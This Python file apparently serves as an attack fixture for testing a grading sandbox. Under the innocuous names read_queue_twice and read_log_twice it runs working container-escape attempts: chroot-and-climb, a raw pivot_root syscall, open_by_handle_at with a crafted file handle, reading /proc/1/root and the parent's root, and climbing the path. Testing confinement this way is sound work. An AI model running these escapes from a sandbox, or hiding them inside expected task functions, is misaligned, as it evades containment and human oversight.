# /// attack
# outcomes = ["wrong"]
# says = "returned 'stayed inside'"
# ///
"""Leaves through a new root: chroot and climb, pivot_root, handles of files, roots of other processes."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PIVOT_ROOT = 155


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def chroot_and_climb():
    os.makedirs("/tmp/root", exist_ok=True)
    os.chroot("/tmp/root")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")


def pivot():
    os.makedirs("/tmp/root/old", exist_ok=True)
    checked(libc.syscall(PIVOT_ROOT, b"/tmp/root", b"/tmp/root/old"))


def by_handle():
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 136)
    for path in ("/", "/submission", "/usr/lib"):
        anchor = os.open(path, os.O_RDONLY)
        if libc.open_by_handle_at(anchor, handle, 0) >= 0:
            return
    raise OSError(ctypes.get_errno(), "refused")


def by_another_process(pid):
    if set(os.listdir(f"/proc/{pid}/root/")) - set(os.listdir("/")):
        return
    raise OSError("the same root")


def climb():
    if os.stat("/" + "../" * 99).st_ino != os.stat("/").st_ino:
        return
    raise OSError("there is nothing above")


STEPS = {
    "chroot": chroot_and_climb,
    "pivot_root": pivot,
    "a file's handle": by_handle,
    "the first process": lambda: by_another_process(1),
    "the parent": lambda: by_another_process(os.getppid()),
    "the way up": climb,
}


def read_queue_twice(queue_name, messages):
    worked = []
    for name, step in STEPS.items():
        try:
            step()
        except OSError:
            continue
        worked.append(name)
    if worked:
        raise RuntimeError(f"escaped: {', '.join(worked)}")
    return "stayed inside"


read_log_twice = read_queue_twice
